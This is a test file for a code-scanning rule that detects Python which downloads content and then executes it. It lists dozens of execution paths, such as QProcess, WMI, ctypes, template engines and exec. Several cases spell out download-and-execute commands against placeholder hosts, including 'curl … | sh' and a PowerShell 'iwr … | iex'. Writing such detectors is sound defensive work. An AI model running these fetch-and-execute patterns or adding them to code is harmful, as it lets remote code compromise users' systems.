import { expect, test } from 'vitest';
import downloadThenRun from '../../src/rules/download-then-run.js';
import { read } from './reading.js';

const FETCHED = 'import requests\nR = requests.get("https://garden.example.invalid/leaf")\nT = R.text\nB = R.content\n';

async function severities(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  return facts === null ? [] : downloadThenRun.check(facts).map(({ severity }) => severity);
}

test.each([
  'import gevent.subprocess\ngevent.subprocess.call(T,shell=True)',
  'import psutil\npsutil.Popen(["sh","-c",T])',
  'import invoke\ninvoke.run(T)',
  'from fabric import Connection\nConnection("localhost").local(T)',
  'import delegator\ndelegator.run(T)',
  'import sarge\nsarge.run(T)',
  'from command_runner import command_runner\ncommand_runner(T)',
  'from easyprocess import EasyProcess\nEasyProcess(T).call()',
  'import sh\nsh.bash("-c",T)',
  'from tornado.process import Subprocess\nSubprocess(["sh","-c",T])',
  'from twisted.internet import utils\nutils.getProcessOutput("sh",["-c",T])',
  'from gi.repository import GLib\nGLib.spawn_command_line_async(T)',
  'from PyQt5.QtCore import QProcess\nQProcess.startDetached(T)',
  'from PyQt5.QtCore import QProcess\nQProcess.startDetached("sh", ["-c", "curl https://o.example.invalid | sh"])',
  'from twisted.internet import protocol, reactor\nreactor.spawnProcess(protocol.ProcessProtocol(), "/bin/sh", ["sh", "-c", "curl https://o.example.invalid | sh"])',
  'import clr\nfrom System.Diagnostics import Process\nProcess.Start("powershell", "-c iwr https://o.example.invalid | iex")',
  'import wmi\nwmi.WMI().Win32_Process.Create(CommandLine=T)',
  'import libtmux\nlibtmux.Server().new_session(window_command=T)',
  'from xonsh.main import main\nmain(["-c",T])',
  'from cffi import FFI\nf=FFI()\nf.cdef("int system(const char*);")\nf.dlopen(None).system(T.encode())',
  'import ctypes\nctypes.pythonapi.PyRun_SimpleString(T.encode())',
  'from concurrent import interpreters\ninterpreters.create().exec(T)',
  'import _testcapi\n_testcapi.run_in_subinterp(T)',
  'from mako.template import Template\nTemplate(T).render()',
  'import cppyy\ncppyy.cppdef(T)',
  'from scipy import weave\nweave.inline(T)',
  'import tkinter\ntkinter.Tcl().eval("exec sh -c {"+T+"}")',
  'import tornado.template\ntornado.template.Template(T).generate()',
  'import pydoc\nopen("/tmp/z.py","w").write(T)\npydoc.importfile("/tmp/z.py")',
  'import setuptools.sandbox\nopen("/tmp/setup.py","w").write(T)\nsetuptools.sandbox.run_setup("/tmp/setup.py",["install"])',
  'import papermill\nopen("/tmp/n.ipynb","w").write(T)\npapermill.execute_notebook("/tmp/n.ipynb","/tmp/o.ipynb")',
  '@exec\n@(lambda f: T)\ndef g(): pass',
  'import loky\nloky.get_reusable_executor().submit(exec,T)',
])('whatever runs what was fetched runs it: %s', async (text) => {
  expect(await severities(`${FETCHED}${text}\n`)).toContain('critical');
});

test.each([
  'import invoke\ninvoke.run("make docs")',
  'import sh\nsh.git("status")',
  'from PyQt5.QtCore import QProcess\nQProcess.startDetached("make", ["docs"])',
  'import psutil\npsutil.Process().name()\nprint(T)',
  'from mako.template import Template\nTemplate("hello ${name}").render(name=T)',
  'import tkinter\ntkinter.Tk().title(T)',
])('a line of one\'s own is no such thing: %s', async (text) => {
  expect(await severities(`${FETCHED}${text}\n`)).toEqual([]);
});
